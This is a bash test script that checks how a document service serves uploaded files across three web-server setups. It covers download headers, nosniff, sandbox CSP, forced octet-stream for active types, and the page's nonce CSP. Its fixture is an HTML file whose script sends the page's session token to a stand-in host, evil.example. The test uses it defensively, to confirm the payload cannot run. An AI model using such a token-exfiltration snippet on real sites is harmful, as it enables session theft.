#!/usr/bin/env bash
# Serving user content (doc/design.md): through lighttpd, Apache mod_fcgid
# AND Apache mod_proxy_fcgi with the pool,
# every answer that carries a document's bytes (GET, HEAD, a Range's 206)
# makes the browser download it (Content-Disposition: attachment with the
# document's name, RFC 6266 + RFC 8187), never sniffs it, and sandboxes it
# should it be rendered anyway.  Checked for an uploaded text/html document
# and for a name with non-ASCII bytes, quotes, ';' and '%'.  A document of
# an active type (script, HTML, XML, SVG) is served as
# application/octet-stream, its JSON keeping the stored type: an injected
# <script src> on our origin could run it otherwise (so is a type that
# lists several, "text/plain, text/javascript": browsers take the last
# one); text/plain and
# application/pdf keep theirs, and [download] serve_active_types = true
# (the responder run as CGI) serves the stored type.  The page that holds
# the token runs only the script element it wrote (a fresh nonce each time,
# never script-src 'self') and cannot be framed.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/tap.sh"
. "$here/../lib/http.sh"

need_stack BINDERY_TEST_LIGHTTPD_URL BINDERY_TEST_APACHE_URL BINDERY_TEST_APACHE_POOL_URL \
	BINDERY_TEST_TOKEN BINDERY_CONFIG \
	BINDERY_TEST_BLOB_ENDPOINT
command -v jq >/dev/null || missing "jq"
page_connect=
grep -q '^direct = true$' "$BINDERY_CONFIG" &&
	page_connect="; connect-src 'self' $(printf '%s' "$BINDERY_TEST_BLOB_ENDPOINT" | sed -E 's#^(https?://[^/]+).*#\1#')"

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
auth=(-H "Authorization: Bearer $BINDERY_TEST_TOKEN")
want_nosniff='nosniff'
want_csp="sandbox; default-src 'none'"

# An HTML document that would steal the page's token if it ran on our origin.
printf '<!doctype html><script>fetch("//evil.example/?t="+sessionStorage.getItem("bindery-token"))</script>\n' \
	>"$work/evil.html"
printf 'plain text with a name that needs care\n' >"$work/odd.txt"

# safety_headers SRV WHAT CODE TYPE: the status, the type and the three
# headers of the last req's answer (status and type ride along with the
# headers this test is about, so every check fails without them).
safety_headers() {
	is "$HTTP_CODE $(header content-disposition)" "$3 $want_cd" "$1: $2: $3 with Content-Disposition"
	is "$HTTP_CTYPE; $(header x-content-type-options)" "$4; $want_nosniff" \
		"$1: $2: the uploaded $4 with X-Content-Type-Options"
	is "$(header content-security-policy)" "$want_csp" "$1: $2: Content-Security-Policy"
}

# check_content SRV ID TYPE: GET, HEAD and a Range of one document.
check_content() {
	local srv=$1 id=$2 type=$3
	req GET "$url/documents/$id/content"
	safety_headers "$srv" GET 200 "$type"
	req HEAD "$url/documents/$id/content" -I
	safety_headers "$srv" HEAD 200 "$type"
	req GET "$url/documents/$id/content" -H 'Range: bytes=0-4'
	safety_headers "$srv" "Range" 206 "$type"
}

# upload SRV NAME-QUERY TYPE FILE: create a document; its id in $id, or "" after a failure.
upload() {
	req POST "$url/documents?name=$2" "${auth[@]}" -H "Content-Type: $3" --data-binary "@$4"
	id=$(jfield "$HTTP_BODY" id)
	[ "$HTTP_CODE" = 201 ] && [ -n "$id" ] && return 0
	fail "$1: upload of $2 answered $HTTP_CODE"
	id=
	return 1
}

for s in "lighttpd=$BINDERY_TEST_LIGHTTPD_URL" "apache=$BINDERY_TEST_APACHE_URL" \
	"pool=$BINDERY_TEST_APACHE_POOL_URL"; do
	srv=${s%%=*} url=${s#*=}
	tag="safe-$srv-$$-$RANDOM"

	if upload "$srv" "$tag.html" text/html "$work/evil.html"; then
		want_cd="attachment; filename=\"$tag.html\"; filename*=UTF-8''$tag.html"
		check_content "$srv html" "$id" application/octet-stream
		req GET "$url/documents/$id"
		is "$(jfield "$HTTP_BODY" content_type)" text/html "$srv html: the JSON keeps the stored type"
	fi

	# Active types go out as octet-stream; others as stored.
	# A list of types (browsers take the last: Chromium runs a <script src>
	# served as "text/plain, text/javascript" under nosniff) is no type we
	# can vouch for either.
	for t in text/javascript application/javascript 'image/svg+xml' 'application/atom+xml' \
		'Text/JavaScript; charset=utf-8' 'text/plain, text/javascript' 'text/plain;,text/html' \
		text/html text/plain application/pdf; do
		case $t in
		text/plain|application/pdf) want=$t ;;
		*) want=application/octet-stream ;;
		esac
		if upload "$srv" "$tag-active-$RANDOM" "$t" "$work/evil.html"; then
			req GET "$url/documents/$id/content"
			is "$HTTP_CODE $HTTP_CTYPE" "200 $want" "$srv: a $t document is served as $want"
			req GET "$url/documents/$id"
			# jq: jfield stops at a ','
			is "$(printf '%s' "$HTTP_BODY" | jq -r .content_type)" "$t" "$srv: ... its JSON says $t"
		fi
	done

	# r<U+00E9>sum<U+00E9> "q";%<U+65E5>.txt, percent-encoded for the query.
	if upload "$srv" "$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt" text/plain "$work/odd.txt"; then
		want_cd="attachment; filename=\"$tag-r_sum_ _q_;__.txt\"; filename*=UTF-8''$tag-r%C3%A9sum%C3%A9%20%22q%22%3B%25%E6%97%A5.txt"
		check_content "$srv non-ASCII" "$id" text/plain
	fi

	# The page: no inline script, not frameable; its script comes from /page.js.
	# With direct uploads on (./dev test's stack) it may also connect to
	# storage, and only there (tests/e2e/page.sh checks both settings).
	req GET "$url/"
	csp=$(header content-security-policy)
	nonce=$(printf '%s' "$csp" | sed -n "s/.*script-src 'nonce-\([0-9a-f]\{32\}\)'.*/\1/p")
	is "$HTTP_CODE $(printf '%s' "$csp" | sed "s/'nonce-$nonce'/'nonce-N'/")" "200 default-src 'self'; script-src 'nonce-N'; style-src 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$page_connect" \
		"$srv: the page's CSP runs only its nonce's script, allows no framing"
	unlike "$csp" "script-src[^;]*'self'" "$srv: ... and never script-src 'self'"
	like "$HTTP_BODY" "<script nonce=\"$nonce\" src=\"/page\\.js\"></script>" "$srv: the page loads /page.js with that nonce"
	req GET "$url/"
	isnt "$(header content-security-policy | sed -n "s/.*'nonce-\([0-9a-f]*\)'.*/\1/p")" "$nonce" \
		"$srv: ... a nonce fresh for each page"
	unlike "$HTTP_BODY" '<script>' "$srv: the page has no inline script"
	req GET "$url/page.js"
	is "$HTTP_CODE $HTTP_CTYPE" "200 text/javascript; charset=utf-8" "$srv: /page.js is JavaScript"
	is "$(header x-content-type-options)" nosniff "$srv: /page.js is not sniffed"
	like "$HTTP_BODY" "sessionStorage\\.getItem\\('bindery-token'\\)" "$srv: /page.js is the page's script"
done

# An operator who allows active types: the responder as CGI with that setting.
need_stack BINDERY_TEST_BIN
if upload lighttpd "safe-cgi-$$-$RANDOM.js" text/javascript "$work/evil.html"; then
	{ cat "$BINDERY_CONFIG"; printf '\n[download]\nserve_active_types = true\n'; } >"$work/active.conf"
	cgi_run "$work/active.out" "$work/active.conf" GET "/documents/$id/content" \
		HTTP_AUTHORIZATION="Bearer $BINDERY_TEST_TOKEN"
	is "$CGI_CODE $(tr -d '\r' <"$work/active.out" | sed -n '1,/^$/s/^Content-Type: //p')" "200 text/javascript" \
		"serve_active_types = true: the stored type is served"
fi
done_testing
